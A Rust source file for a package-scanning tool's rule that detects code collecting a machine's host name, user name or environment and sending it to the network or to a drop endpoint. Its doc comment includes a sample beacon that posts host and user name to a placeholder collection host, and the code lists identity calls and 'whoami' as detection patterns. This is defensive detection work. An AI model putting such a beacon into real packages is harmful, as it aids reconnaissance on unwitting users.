//! # SW-GEN-027: host fingerprint sent out
//!
//! **What it does.** Finds code that collects who and where it is running
//! (`socket.gethostname()`, `getpass.getuser()`, `os.getlogin()`,
//! `platform.node()`, `os.uname()`, `os.hostname()`, `os.userInfo()`,
//! `whoami`, a dump of the whole environment, a public-IP lookup) in a
//! file that also talks to the network at the same stage (a network
//! call, or a `curl`/`wget`/`nslookup`/`dig` command), or that names a
//! drop for it (a request catcher, webhook, tunnel, out-of-band testing
//! host or raw public IP: the endpoints of SW-GEN-007).
//!
//! **Why is this bad.** This is the beacon of dependency-confusion and
//! reconnaissance packages: install, report the victim's host and user
//! name, and wait for a second stage.
//!
//! **Example.**
//!
//! ```python
//! requests.post("https://collect.example.test", json={"host": socket.gethostname(), "user": getpass.getuser()})
//! ```
//!
//! **False positives.** Telemetry and logging libraries record the host
//! name when called; that is `low`. At install or import time the rule
//! is `high`, and `critical` when two identity facts (host name and user
//! name, say) go out together. Identity sent to a drop is `critical`
//! and weighs at any stage: nothing legitimate reports the host to a
//! request catcher or an out-of-band testing domain.

use std::collections::BTreeMap;

use super::{Context, Emit, Hit, Rule, gen005_env_harvest as env, gen007_exfil_endpoint as drops, gen028_theft_chain as theft, is_network, is_spawn, py002_setup_install_hooks as hooks};
use crate::analysis::SourceFile;
use crate::lang::{Facts, callee_matches};
use crate::model::{Severity, Stage};

pub(crate) static RULE: Rule = Rule {
    id: "SW-GEN-027",
    title: "host fingerprint sent out",
    source: include_str!("gen027_host_fingerprint.rs"),
    check,
};

const IDENTITY: &[&str] = &[
    "socket.gethostname",
    "getpass.getuser",
    "os.getlogin",
    "platform.node",
    "platform.uname",
    "os.uname",
    "os.hostname",
    "os.userInfo",
    "os.networkInterfaces",
    "socket.gethostbyname",
    "requests.get.text",
    "os.getcwd",
];

/// One identity fact a file collects: what, when, where.
struct Fact {
    what: String,
    stage: Stage,
    line: u32,
}

/// The identity facts `file` collects: identity calls, `whoami`, a dump
/// of the whole environment, a public-IP lookup.
fn identity_facts(file: &SourceFile, facts: &Facts, lookups: &[Hit<'_>]) -> Vec<Fact> {
    let mut out: Vec<Fact> = facts
        .calls
        .iter()
        .filter(|c| IDENTITY.iter().take(9).any(|p| callee_matches(&c.callee, p)))
        .map(|c| Fact { what: format!("`{}`", c.callee), stage: c.stage, line: c.line })
        .collect();
    out.extend(
        facts
            .strings
            .iter()
            .filter(|s| matches!(s.value.trim(), "whoami" | "hostname"))
            .map(|s| Fact { what: format!("`{}`", s.value.trim()), stage: s.stage, line: s.line }),
    );
    out.extend(
        facts
            .calls
            .iter()
            .filter(|c| env::serializes_environment(c))
            .map(|c| Fact { what: "the whole environment".to_owned(), stage: c.stage, line: c.line }),
    );
    out.extend(
        lookups
            .iter()
            .filter(|h| h.file.path == file.path)
            .map(|h| Fact { what: format!("its public IP (`{}`)", drops::ENDPOINTS[h.pattern].0), stage: h.stage, line: h.line }),
    );
    out
}

fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
    let lookups: Vec<Hit<'_>> = cx
        .indicator_hits(&drops::MATCHER)
        .into_iter()
        .filter(|h| drops::ENDPOINTS[h.pattern].1 == "an IP-lookup service")
        .collect();
    let mut collected: BTreeMap<&str, (&SourceFile, &Facts, Vec<Fact>)> = BTreeMap::new();
    for file in cx.code_files() {
        let Some(facts) = &file.facts else { continue };
        let identity = identity_facts(file, facts, &lookups);
        if !identity.is_empty() {
            collected.insert(&file.path, (file, facts, identity));
        }
    }
    let named_drops = theft::drops_in(cx, |path| collected.contains_key(path), false);
    for (path, (file, facts, identity)) in &collected {
        // Identity and a place that exists to receive it, in one file:
        // a beacon whenever it runs.
        if let Some((drop, d_stage, _)) = named_drops.get(path) {
            let first = identity.iter().min_by_key(|f| (f.stage, f.line)).expect("not empty");
            out.finding_at_any_stage(
                Severity::Critical,
                first.stage.min(*d_stage),
                &file.path,
                Some(first.line),
                format!("fingerprints the host ({}) and names a drop for it: {drop}", first.what),
            );
            continue;
        }
        let sends = facts
            .calls
            .iter()
            .filter(|c| is_network(&c.callee) || is_spawn(&c.callee) && hooks::network_command(c));
        for send in sends {
            let mut kinds: Vec<&str> = identity
                .iter()
                .filter(|f| f.stage == send.stage)
                .map(|f| f.what.as_str())
                .collect();
            let Some(what) = kinds.first().map(|w| (*w).to_owned()) else { continue };
            kinds.sort_unstable();
            kinds.dedup();
            // Two identity facts (host name and user name, say) sent as
            // the package installs or loads: a dependency-confusion beacon.
            let severity = match (send.stage.is_automatic(), kinds.len()) {
                (true, n) if n >= 2 => Severity::Critical,
                (true, _) => Severity::High,
                (false, _) => Severity::Low,
            };
            out.finding(
                severity,
                send.stage,
                &file.path,
                Some(send.line),
                format!("fingerprints the host ({what}) and talks to the network with `{}`", send.callee),
            );
            break;
        }
    }
}
